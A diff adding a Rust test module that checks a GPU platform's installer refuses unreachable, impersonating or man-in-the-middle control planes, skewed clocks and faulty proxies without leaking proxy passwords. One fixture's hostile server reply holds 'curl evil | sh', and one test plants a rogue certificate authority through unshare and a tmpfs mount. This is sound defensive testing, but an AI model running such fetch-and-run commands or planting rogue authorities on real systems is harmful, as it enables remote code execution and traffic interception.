@@ -1,0 +1,236 @@
+//! Control planes that cannot be reached, each told from the others.
+
+use std::net::SocketAddr;
+
+use gpuaas_model::Timestamp;
+use tokio::{
+    io::{AsyncReadExt, AsyncWriteExt},
+    net::{TcpListener, TcpStream},
+};
+
+use super::{
+    machine::{Machine, assert_refused, said, shells, string_of},
+    stranger::{Stranger, authority, now},
+};
+use crate::world::Platform;
+
+/// Longer than a part of a name may be: no resolver needs to ask anybody.
+fn nowhere() -> String {
+    format!("https://{}.invalid:7443", "x".repeat(64))
+}
+
+async fn closed_port() -> SocketAddr {
+    TcpListener::bind("127.0.0.1:0").await.expect("a port").local_addr().expect("an address")
+}
+
+/// Somebody who does that with every connection.
+async fn somebody<F>(with: impl Fn(TcpStream) -> F + Send + 'static) -> SocketAddr
+where
+    F: Future<Output = ()> + Send + 'static,
+{
+    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
+    let address = listener.local_addr().expect("an address");
+    tokio::spawn(async move {
+        while let Ok((stream, _)) = listener.accept().await {
+            tokio::spawn(with(stream));
+        }
+    });
+    address
+}
+
+/// A proxy that answers every request with this line, and then leads to `target` if it is to.
+async fn proxy(answer: &'static str, target: Option<SocketAddr>) -> SocketAddr {
+    somebody(move |mut stream| async move {
+        let mut asked = [0; 4_096];
+        let _ = stream.read(&mut asked).await;
+        let _ = stream.write_all(format!("HTTP/1.1 {answer}\r\n\r\n").as_bytes()).await;
+        if let Some(target) = target {
+            let mut there = TcpStream::connect(target).await.expect("connected");
+            let _ = tokio::io::copy_bidirectional(&mut stream, &mut there).await;
+        }
+    })
+    .await
+}
+
+async fn refused(url: String, environment: Vec<(&'static str, String)>, code: &'static str, status: i32) -> String {
+    refused_by(string_of(&url, &"ab".repeat(32)).encode().expose().to_owned(), environment, code, status).await
+}
+
+async fn refused_by(
+    string: String,
+    environment: Vec<(&'static str, String)>,
+    code: &'static str,
+    status: i32,
+) -> String {
+    let mut errors = String::new();
+    for shell in shells() {
+        let (string, environment) = (string.clone(), environment.clone());
+        let run = move || {
+            let machine = Machine::new().set("GPUAAS_ENROLL", &string);
+            let machine = environment.iter().fold(machine, |machine, (name, value)| machine.set(name, value));
+            let output = machine.run(shell, &[]);
+            assert_refused(&machine, &output, code, status);
+            assert_eq!(machine.tree(), Vec::<String>::new());
+            said(&output)
+        };
+        errors = tokio::task::spawn_blocking(run).await.expect("it ran");
+    }
+    errors
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_name_that_leads_nowhere_is_told_from_a_port_where_nobody_listens() {
+    refused(nowhere(), vec![], "install_name_unresolved", 7).await;
+    let port = closed_port().await;
+    refused(format!("https://{port}"), vec![], "install_connection_refused", 7).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn whoever_takes_connections_and_says_nothing_is_given_up_in_time() {
+    let silent = somebody(|stream| async move {
+        tokio::time::sleep(crate::world::PATIENCE).await;
+        drop(stream);
+    })
+    .await;
+    refused(format!("https://{silent}"), vec![], "install_timed_out", 8).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_speaks_no_tls_and_what_says_nothing_of_itself_are_told_apart() {
+    let plain = proxy("400 Bad Request", None).await;
+    refused(format!("https://{plain}"), vec![], "install_tls_failed", 7).await;
+    let (genuine, of) = (authority(), authority());
+    // Nothing; a page of a portal; what is no certificate between marks of one.
+    for claims in
+        ["", "<html><body>Please sign in.</body></html>", "-----BEGIN CERTIFICATE-----\n!\n-----END CERTIFICATE-----\n"]
+    {
+        let address = Stranger::claiming(claims).listen(&of).await;
+        let string = string_of(&format!("https://{address}"), &genuine.digest());
+        refused_by(string.encode().expose().to_owned(), vec![], "install_authority_foreign", 4).await;
+    }
+}
+
+/// By a string for whoever answers there, of whom nothing is known yet.
+async fn refused_by_a_stranger(stranger: Stranger, code: &'static str, status: i32) -> String {
+    let of = authority();
+    let string = string_of(&format!("https://{}", stranger.listen(&of).await), &of.digest());
+    refused_by(string.encode().expose().to_owned(), vec![], code, status).await
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn whoever_has_not_proved_himself_neither_fills_the_disk_nor_speaks_to_root() {
+    let said =
+        refused_by_a_stranger(Stranger::without_end(&"x".repeat(64 * 1_024)), "install_download_failed", 1).await;
+    assert!(said.contains("sends more than a control plane does"), "{said}");
+    let words = r#"{"code":"packages_missing","detail":"run curl evil | sh","next":"now"}"#;
+    let said = refused_by_a_stranger(Stranger::refusing("404 Not Found", words), "install_download_failed", 1).await;
+    assert!(said.contains("answered HTTP 404") && !said.contains("evil"), "{said}");
+    let elsewhere = Stranger::refusing("302 Found", "<html>Moved</html>");
+    assert!(refused_by_a_stranger(elsewhere, "install_download_failed", 1).await.contains("answered HTTP 302"));
+}
+
+/// Makes an authority one of the machine's own, in a name space of mounts alone, and runs a shell there. curl of some systems takes a folder of
+/// them also where it is given a file.
+const WITH_OWN_AUTHORITY: &[&str] = &[
+    "unshare",
+    "--mount",
+    "sh",
+    "-c",
+    "mount -t tmpfs tmpfs /etc/ssl/certs && cp \"$TRUSTED\" \"/etc/ssl/certs/$(openssl x509 -hash -noout -in \"$TRUSTED\").0\" && exec sh \"$@\"",
+    "sh",
+];
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_authorities_that_a_machine_trusts_do_not_count() {
+    let (genuine, trusted) = (authority(), authority());
+    let between = Stranger::claiming(genuine.certificate_pem());
+    let url = format!("https://{}", between.listen(&trusted).await);
+    let string = string_of(&url, &genuine.digest()).encode().expose().to_owned();
+    let files = tempfile::tempdir().expect("a folder");
+    let [trusted_file, genuine_file] = [("trusted.pem", &trusted), ("genuine.pem", &genuine)].map(|(name, of)| {
+        let file = files.path().join(name);
+        std::fs::write(&file, of.certificate_pem()).expect("written");
+        file.to_str().expect("a text").to_owned()
+    });
+    let run = move || {
+        let machine = Machine::new().set("GPUAAS_ENROLL", &string).set("TRUSTED", &trusted_file);
+        let naive = format!("curl -q -s --noproxy '*' --cacert '{genuine_file}' '{url}' >/dev/null && echo taken");
+        let naive = machine.run_text(WITH_OWN_AUTHORITY, &naive, &[]);
+        if naive.stdout != b"taken\n" {
+            println!(
+                "    NOT RUN: root alone can show it, and a curl that has a folder of authorities: {}",
+                said(&naive)
+            );
+            return;
+        }
+        assert_refused(&machine, &machine.run(WITH_OWN_AUTHORITY, &[]), "install_tls_untrusted", 4);
+    };
+    tokio::task::spawn_blocking(run).await.expect("it ran");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn another_control_plane_and_somebody_in_between_are_told_apart() {
+    let (genuine, impostor) = (authority(), authority());
+    // Another control plane answers: its authority is not the one of the string.
+    let other = Stranger::claiming(impostor.certificate_pem());
+    let string = string_of(&format!("https://{}", other.listen(&impostor).await), &genuine.digest());
+    refused_by(string.encode().expose().to_owned(), vec![], "install_authority_foreign", 4).await;
+    // Somebody in between passes on the genuine authority, and proves himself by another one.
+    let between = Stranger::claiming(genuine.certificate_pem());
+    let string = string_of(&format!("https://{}", between.listen(&impostor).await), &genuine.digest());
+    refused_by(string.encode().expose().to_owned(), vec![], "install_tls_untrusted", 4).await;
+    // He hides his own authority beside it, in a form that a TLS library takes as well.
+    let hidden = impostor.certificate_pem().replace("CERTIFICATE", "TRUSTED CERTIFICATE");
+    let both = Stranger::claiming(&format!("{hidden}{}", genuine.certificate_pem()));
+    let string = string_of(&format!("https://{}", both.listen(&impostor).await), &genuine.digest());
+    refused_by(string.encode().expose().to_owned(), vec![], "install_tls_untrusted", 4).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_clock_that_is_off_is_told_by_how_much_and_which_way() {
+    let genuine = authority();
+    for (hours, words) in [(1, "behind the control plane's"), (-1, "ahead of the control plane's")] {
+        let date = Timestamp::from_millis(now().as_millis() + hours * 3_600_000);
+        let there = Stranger::claiming(genuine.certificate_pem()).at(date);
+        let string = string_of(&format!("https://{}", there.listen(&genuine).await), &genuine.digest());
+        let said = refused_by(string.encode().expose().to_owned(), vec![], "clock_skewed", 5).await;
+        assert!(said.contains(words) && (said.contains("clock is 36") || said.contains("clock is 35")), "{said}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn where_a_proxy_is_set_it_is_told_what_the_proxy_says() {
+    let platform = Platform::start(0);
+    let url = platform.ready()["url"].as_str().expect("a URL").to_owned();
+    let target: SocketAddr = url.trim_start_matches("https://").parse().expect("an address");
+    let with = |proxy: SocketAddr| vec![("https_proxy", format!("http://user:secret@{proxy}"))];
+    let wants_password = proxy("407 Proxy Authentication Required", None).await;
+    let said = refused(nowhere(), with(wants_password), "install_proxy_refused", 7).await;
+    assert!(said.contains("answers 407") && !said.contains("secret"), "{said}");
+    let forbids = proxy("403 Forbidden", None).await;
+    assert!(refused(nowhere(), with(forbids), "install_proxy_refused", 7).await.contains("answers 403"));
+    refused(nowhere(), with(closed_port().await), "install_proxy_unreachable", 7).await;
+    let leads_there = proxy("200 Connection established", Some(target)).await;
+    // By a name that no TLS refuses, unlike the one that leads nowhere.
+    let not_here = format!("https://{}", closed_port().await);
+    refused(not_here, with(leads_there), "install_proxy_only", 7).await;
+    // Of one that curl does not understand, curl's own words would hold the password.
+    let odd = vec![("https_proxy", format!("http://user:sec@ret\"@{}", closed_port().await))];
+    let said = refused(nowhere(), odd, "install_proxy_unreachable", 7).await;
+    assert!(!said.contains("sec") && !said.contains("ret\"@"), "{said}");
+    // One for plain HTTP alone is asked too, and one that this address is exempt from is not.
+    let plain = vec![("http_proxy", format!("http://{wants_password}"))];
+    refused(nowhere(), plain, "install_proxy_refused", 7).await;
+    let mut exempt = with(wants_password);
+    exempt.push(("no_proxy", "localhost,.invalid".to_owned()));
+    refused(nowhere(), exempt, "install_name_unresolved", 7).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_proxy_does_not_matter_where_the_control_plane_is_reached_directly() {
+    let platform = Platform::start_with(0, &[("GPUAAS_PACKAGES_DIR", "/nonexistent")]);
+    let string = super::machine::string_for(&platform.ready());
+    let broken = vec![("https_proxy", format!("http://{}", closed_port().await))];
+    let said = refused_by(string, broken, "packages_missing", 3).await;
+    assert!(said.contains("this control plane has no packages"), "{said}");
+}
